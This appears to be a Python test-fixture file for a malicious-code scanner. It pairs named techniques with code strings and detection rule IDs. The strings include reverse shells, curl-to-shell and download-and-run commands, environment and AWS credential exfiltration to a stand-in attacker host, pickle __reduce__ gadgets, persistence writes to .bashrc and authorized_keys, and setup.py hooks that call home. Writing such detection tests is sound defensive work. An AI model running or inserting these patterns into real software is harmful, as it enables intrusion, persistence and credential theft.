"""CASES: name of a technique → (source text, the rule it must meet). Nothing here is ever run."""

from __future__ import annotations

import base64

_HARMLESS = base64.b64encode(b"print('harmless')").decode()
HOST = "http://attacker.invalid"

CASES: dict[str, tuple[str, str]] = {
    "exec_of_base64": (
        f"import base64\nexec(base64.b64decode('{_HARMLESS}'))",
        "SW-CODE-114",
    ),
    "exec_of_base64_by_aliases": (
        f"from base64 import b64decode as d\nx = d('{_HARMLESS}')\ny = x.decode()\nexec(y)",
        "SW-CODE-114",
    ),
    "exec_of_compressed": (
        "import zlib, base64\ndef f(b):\n    return zlib.decompress(b)\n"
        f"exec(f(base64.b64decode('{_HARMLESS}')))",
        "SW-CODE-114",
    ),
    "exec_of_marshal": (
        "import marshal\nexec(marshal.loads(open('x.bin', 'rb').read()))",
        "SW-CODE-114",
    ),
    "compile_then_exec": (
        f"import base64\ncode = compile(base64.b64decode('{_HARMLESS}'), 'x', 'exec')\nexec(code)",
        "SW-CODE-114",
    ),
    "exec_of_hex": ("exec(bytes.fromhex('7072696e742829'))", "SW-CODE-114"),
    "exec_in_a_method": (
        "import base64\nclass Net:\n    def __init__(self):\n"
        f"        self.blob = base64.b64decode('{_HARMLESS}')\n"
        "    def forward(self, x):\n        exec(self.blob)\n        return x",
        "SW-CODE-114",
    ),
    "exec_by_lambda": (
        f"import base64\n(lambda s: exec(s))(1)\nrun = exec\nrun(base64.b64decode('{_HARMLESS}'))",
        "SW-CODE-114",
    ),
    "exec_of_text_that_starts_a_process": (
        "exec(\"import os\\nos.system('id')\")",
        "SW-CODE-114",
    ),
    "eval_of_text_that_imports": ('eval(\'__import__("os").system("id")\')', "SW-CODE-114"),
    "exec_of_text_by_a_name": (
        "payload = 'import subprocess as s\\ns.run([\"id\"])'\nexec(payload)",
        "SW-CODE-114",
    ),
    "dropper": (
        f"import os, subprocess, urllib.request\nurllib.request.urlretrieve('{HOST}', '/tmp/a')\n"
        "os.chmod('/tmp/a', 0o755)\nsubprocess.Popen(['/tmp/a'])",
        "SW-CODE-115",
    ),
    "exec_of_the_network": (
        f"import requests\nexec(requests.get('{HOST}').text)",
        "SW-CODE-115",
    ),
    "eval_of_urllib": (
        f"from urllib.request import urlopen\nbody = urlopen('{HOST}').read()\neval(body)",
        "SW-CODE-115",
    ),
    "exec_of_a_session": (
        f"import requests as r\ns = r.Session()\nexec(s.get('{HOST}').content.decode())",
        "SW-CODE-115",
    ),
    "unpickle_of_the_network": (
        f"import pickle, requests\npickle.loads(requests.get('{HOST}').content)",
        "SW-CODE-116",
    ),
    "torch_load_of_the_network": (
        "import io, torch, urllib.request\n"
        f"torch.load(io.BytesIO(urllib.request.urlopen('{HOST}').read()))",
        "SW-CODE-116",
    ),
    "curl_to_shell": (f"import os\nos.system('curl -s {HOST}/x | sh')", "SW-CODE-120"),
    "curl_to_shell_in_a_list": (
        f"import subprocess\nsubprocess.run(['bash', '-c', 'wget -qO- {HOST}/x | bash'])",
        "SW-CODE-120",
    ),
    "base64_to_shell": (
        "from os import popen\npopen('echo aWQ= | base64 -d | bash')",
        "SW-CODE-120",
    ),
    "dev_tcp": (
        "import subprocess as sp\nsp.Popen('bash -i >& /dev/tcp/192.0.2.1/4444 0>&1', shell=True)",
        "SW-CODE-120",
    ),
    "netcat_with_a_shell": ("import os\nos.system('nc -e /bin/sh 192.0.2.1 4444')", "SW-CODE-120"),
    "download_chmod_run": (
        f"import os\nos.system('curl -o /tmp/a {HOST}/a && chmod +x /tmp/a && /tmp/a')",
        "SW-CODE-120",
    ),
    "encoded_powershell": (
        "import os\nos.system('powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA')",
        "SW-CODE-120",
    ),
    "command_in_pieces": (
        f"import os\na = 'cu' + 'rl {HOST} '\nos.system(a + '| s' + 'h')",
        "SW-CODE-120",
    ),
    "bashrc": (
        "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('#')",
        "SW-CODE-122",
    ),
    "authorized_keys": (
        "from pathlib import Path\nopen(Path.home() / '.ssh' / 'authorized_keys', 'a').write('k')",
        "SW-CODE-122",
    ),
    "pth_in_site_packages": (
        "import site\nopen(site.getsitepackages()[0] + '/a.pth', 'w').write('import os')",
        "SW-CODE-122",
    ),
    "cron_by_shell": ("import os\nos.system('(crontab -l; echo x) | crontab -')", "SW-CODE-122"),
    "reduce_system": (
        "import os\nclass A:\n    def __reduce__(self):\n        return os.system, ('id',)",
        "SW-CODE-124",
    ),
    "reduce_ex_eval": (
        "class A:\n    def __reduce_ex__(self, p):\n        return (eval, ('1',))",
        "SW-CODE-124",
    ),
    "reduce_by_a_name": (
        "import subprocess\nclass A:\n    def __reduce__(self):\n        f = subprocess.Popen\n"
        "        return f, (['id'],)",
        "SW-CODE-124",
    ),
    "environment_to_the_network": (
        f"import os, requests\nrequests.post('{HOST}', json=dict(os.environ))",
        "SW-CODE-125",
    ),
    "environment_by_urllib": (
        "import os, json, urllib.request as u\n"
        "d = json.dumps({k: v for k, v in os.environ.items()})\n"
        f"u.urlopen('{HOST}', data=d.encode())",
        "SW-CODE-125",
    ),
    "credentials_to_the_network": (
        "import os, requests\nk = open(os.path.expanduser('~/.aws/credentials')).read()\n"
        f"requests.post('{HOST}', data=k)",
        "SW-CODE-125",
    ),
    "environment_by_dns": (
        "import os, socket\nsocket.gethostbyname(str(os.environ) + '.attacker.invalid')",
        "SW-CODE-125",
    ),
    "getattr_in_pieces": (
        "import builtins\ngetattr(builtins, 'ex' + 'ec')('1')",
        "SW-CODE-130",
    ),
    "getattr_reversed": (
        "import os\ngetattr(os, 'metsys'[::-1])('id')",
        "SW-CODE-130",
    ),
    "getattr_by_chr": (
        "import os\ngetattr(os, chr(115) + chr(121) + 'stem')('id')",
        "SW-CODE-130",
    ),
    "import_in_pieces": ("__import__('o' + 's').getcwd()", "SW-CODE-130"),
    "import_joined": (
        "import importlib\nm = importlib.import_module(''.join(['sub', 'process']))",
        "SW-CODE-130",
    ),
    "builtins_by_subscript": ("__builtins__['ev' + 'al']('1')", "SW-CODE-130"),
    "globals_walk": (
        "import os\nvars(os)['sys' + 'tem']('id')",
        "SW-CODE-130",
    ),
    "import_by_base64": (
        "import base64\n__import__(base64.b64decode('b3M=').decode()).system('id')",
        "SW-CODE-130",
    ),
    "machine_code": (
        "import ctypes\np = ctypes.windll.kernel32.VirtualAlloc(0, 9, 0x3000, 0x40)",
        "SW-CODE-133",
    ),
    "reverse_shell": (
        "import socket, os, pty\ns = socket.socket()\ns.connect(('192.0.2.1', 1))\n"
        "os.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')",
        "SW-CODE-137",
    ),
    "shell_fed_from_a_socket": (
        "import socket, subprocess\ndef go():\n    s = socket.socket()\n"
        "    s.connect(('192.0.2.1', 1))\n    c = s.recv(99).decode()\n"
        "    subprocess.getoutput(c)\ngo()",
        "SW-CODE-115",
    ),
    "trojan_source": (
        "ok = False  # \u202e } if admin \u2066 begin",
        "SW-CODE-138",
    ),
    "replaced_pickle": ("import pickle\npickle.loads = print", "SW-CODE-126"),
    "replaced_open": ("import builtins\nbuiltins.open = print", "SW-CODE-126"),
    "replaced_by_setattr": ("import builtins\nsetattr(builtins, 'exec', print)", "SW-CODE-126"),
    "import_hook": ("import sys\nsys.meta_path.insert(0, object())", "SW-CODE-126"),
    "python_2": ("print 'hello'\n", "SW-CODE-101"),
    "odd_encoding": ("# -*- coding: utf-7 -*-\nx = 1\n", "SW-CODE-101"),
    "deep_brackets": ("x = " + "(" * 4000 + ")" * 4000, "SW-CODE-101"),
    "deep_attributes": ("x = a" + ".b" * 50_000, "SW-CODE-101"),
    "null": ("x = 1\0", "SW-CODE-101"),
}
PACKAGE_CASES: dict[str, tuple[str, str]] = {
    "setup_that_calls_home": (
        "import socket, urllib.request\nfrom setuptools import setup\n"
        f"urllib.request.urlopen('{HOST}/?h=' + socket.gethostname())\nsetup(name='x')",
        "SW-CODE-119",
    ),
    "setup_with_an_install_command": (
        "import os\nfrom setuptools import setup\nfrom setuptools.command.install import install\n"
        "class I(install):\n    def run(self):\n        os.system('id')\n"
        "setup(name='x', cmdclass={'install': I})",
        "SW-CODE-119",
    ),
    "import_through_a_thread": (
        f"import threading, requests\ndef go():\n    requests.get('{HOST}')\n"
        "threading.Thread(target=go).start()",
        "SW-CODE-119",
    ),
    "import_through_a_constructor": (
        "import subprocess\nclass Config:\n    def __init__(self):\n"
        "        subprocess.run(['id'])\nconfig = Config()",
        "SW-CODE-119",
    ),
    "import_through_a_decorator": (
        "import os\ndef register(f):\n    os.popen('id')\n    return f\n"
        "@register\ndef g():\n    pass",
        "SW-CODE-119",
    ),
}
"""The same for files that run without being asked: setup.py, __init__.py, the code of a model."""
